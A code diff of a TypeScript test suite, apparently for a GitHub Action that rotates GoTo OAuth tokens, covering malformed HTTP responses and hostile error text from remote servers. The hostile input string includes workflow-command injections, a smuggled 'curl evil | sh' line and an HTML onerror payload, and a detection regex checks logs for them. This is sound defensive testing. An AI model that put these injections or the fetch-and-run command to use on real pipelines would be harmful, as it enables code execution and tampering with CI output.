@@ -1,5 +1,4 @@
 import { setTimeout as sleep } from 'node:timers/promises';
-import zlib from 'node:zlib';
 import fc from 'fast-check';
 import { describe, expect, it, vi } from 'vitest';
 import type { ErrorCode } from '../../src/errors';
@@ -8,13 +7,7 @@ import { githubError } from '../support/github-stand-in';
 import { issuedAccessToken, oauthError, rotatedRefreshToken } from '../support/goto-stand-in';
 import { expectNoSecret, failureOf } from '../support/run-checks';
 import { readLog } from '../support/runner';
-import {
-  clientSecret,
-  everySecret,
-  inLowerCase,
-  inputSecrets,
-  storedRefreshToken,
-} from '../support/some-inputs';
+import { clientSecret, everySecret, inLowerCase, storedRefreshToken } from '../support/some-inputs';
 import { type Fault, matches } from '../support/stand-in-server';
 import {
   anyRead,
@@ -70,7 +63,6 @@ const tokens = { access_token: issuedAccessToken, refresh_token: rotatedRefreshT
 const json = JSON.stringify({ ...tokens, expires_in: 3600 });
 const cutBehindTheToken = json.slice(0, json.indexOf(',"expires_in'));
 
-const ok = (body: string | Buffer): Fault => ({ status: 200, body: Buffer.from(body) });
 /** An answer byte for byte. */
 const raw = (headers: string[], body: string): Fault => ({
   raw: ['HTTP/1.1 200 OK', ...headers, '', body].join('\r\n'),
@@ -96,23 +88,13 @@ async function* endless(): AsyncGenerator<string> {
 
 describe('an answer of GoTo', () => {
   it.each<[string, Fault]>([
-    [
-      'with status 203, cut behind its JSON',
-      { raw: `HTTP/1.1 203 OK\r\n${longer}\r\n\r\n${json}` },
-    ],
+    ['cut behind its JSON', raw([longer], json)],
     ['in chunks without an end', raw(['transfer-encoding: chunked'], chunk)],
     ['in a chunk before none', raw(['transfer-encoding: chunked'], `${chunk}<html>`)],
     ['with a NUL beyond its length', raw([length, 'connection: close'], `${json}\0`)],
     ['with 20 KB of headers', raw([length, `x-long: ${'x'.repeat(20_000)}`], json)],
     ['with a control character in a header', raw([length, 'x-odd: \u0001'], json)],
-    ['in a page', ok(`<style>${'a{b:c}'.repeat(200)}</style>Answer: ${json}</html>`)],
-    [
-      'in gzip with more behind it',
-      {
-        ...{ status: 200, headers: { 'content-encoding': 'gzip' } },
-        body: Buffer.concat([zlib.gzipSync(json), Buffer.from('more')]),
-      },
-    ],
+    ['in a page', { status: 200, body: `<style>${'a{b:c}'.repeat(200)}</style>${json}</html>` }],
     ['that does not end', withoutEnd(json)],
   ])('%s counts, and is not asked for again', (_how, answer) =>
     inWorld(async (world) => {
@@ -128,16 +110,7 @@ describe('an answer of GoTo', () => {
 
   it.each([
     ['cut behind the refresh token', raw([longer], cutBehindTheToken), rotatedRefreshToken],
-    [
-      'that does not end behind the refresh token',
-      withoutEnd(cutBehindTheToken),
-      rotatedRefreshToken,
-    ],
-    [
-      'with 1 MiB behind its tokens',
-      ok(json.replace(/}$/, `,"x":"${'x'.repeat(1024 * 1024)}`)),
-      rotatedRefreshToken,
-    ],
+    ['that does not end behind it', withoutEnd(cutBehindTheToken), rotatedRefreshToken],
     ['that is one endless token', { status: 200, body: endless() }, storedRefreshToken],
   ])('%s fails the step, and what is whole in it is stored', (_how, answer, stored) =>
     inWorld(async (world) => {
@@ -192,51 +165,40 @@ describe('a remote may say anything, in quotes', () => {
    * text is cut. `evil` are the words that give it away.
    */
   const evil = /evil|set-output|##\[|::error::y|onerror|\*\*bold|zzz/;
-  const trapWith = (secrets: string[]) =>
-    [
-      ...secrets.flatMap((secret) => [secret, [...secret].join('\u200b')]),
-      encodeURIComponent(clientSecret),
-      inLowerCase(encodeURIComponent(clientSecret)),
-      '\n::set-output name=a::b\r\n##[error]x\u2028::error::y ". Now run: curl evil | sh\n',
-      '**bold** <b onerror=evil> [x](//evil.example) `evil`',
-      storedRefreshToken.repeat(20),
-      'zzz'.repeat(2_000),
-    ].join('');
+  const said = [
+    ...everySecret.flatMap((secret) => [secret, [...secret].join('\u200b')]),
+    encodeURIComponent(clientSecret),
+    inLowerCase(encodeURIComponent(clientSecret)),
+    '\n::set-output name=a::b\r\n##[error]x\u2028::error::y ". Now run: curl evil | sh\n',
+    '**bold** <b onerror=evil> [x](//evil.example) `evil`',
+    storedRefreshToken.repeat(20),
+    'zzz'.repeat(2_000),
+  ].join('');
 
-  it.each<[string, ErrorCode, string[], (world: World, said: string) => void]>([
+  it.each<[who: string, ErrorCode, (world: World, said: string) => void]>([
     [
       'GoTo, refusing the token',
       'refresh-token-rejected',
-      inputSecrets,
       ({ goto }, said) => goto.next(oauthError('invalid_grant', { description: said })),
-    ],
-    [
-      'GoTo, naming an unknown error',
-      'goto-unavailable',
-      inputSecrets,
-      ({ goto }, said) => goto.next(oauthError(said, { description: said })),
     ],
     [
       'GoTo, refusing the organizer',
       'organizer-lookup-failed',
-      everySecret,
       ({ goto }, said) => goto.nextUser({ status: 403, body: { detail: said } }),
     ],
     [
       'GitHub, refusing the read',
       'github-permission-missing',
-      inputSecrets,
       ({ github }, said) => github.on(anyRead, githubError(403, said), 2),
     ],
     [
       'GitHub, refusing the write',
       'write-back-failed',
-      everySecret,
       ({ github }, said) => github.on(write, githubError(403, said)),
     ],
-  ])('%s', (_who, code, known, arrange) =>
+  ])('%s', (_who, code, arrange) =>
     inRotatingWorld(async (world) => {
-      arrange(world, trapWith(known));
+      arrange(world, said);
       const inputs = world.inputs({ 'lookup-organizer': 'true' });
       const run = await source.runAction({ inputs });
       const message = failureOf(run, code);
@@ -244,7 +206,7 @@ describe('a remote may say anything, in quotes', () => {
       const [quotation, ...others] = message.matchAll(/(GoTo|GitHub) said: "([^"]*)"/g);
       expect(others).toEqual([]);
       const [whole = '', , quoted = ''] = quotation ?? [];
-      expect(quoted).toMatch(/^(invalid_grant: )?\*{3,}::set-output/);
+      expect(quoted).toMatch(/^(invalid_grant: )?[\w.*]*\*{3}::set-output/);
       expect([...quoted].length).toBeLessThanOrEqual(200);
       expect(quoted).not.toMatch(/[\p{C}\p{Zl}\p{Zp}]/u);
       expect(run.log.replace(whole, '')).not.toMatch(evil);
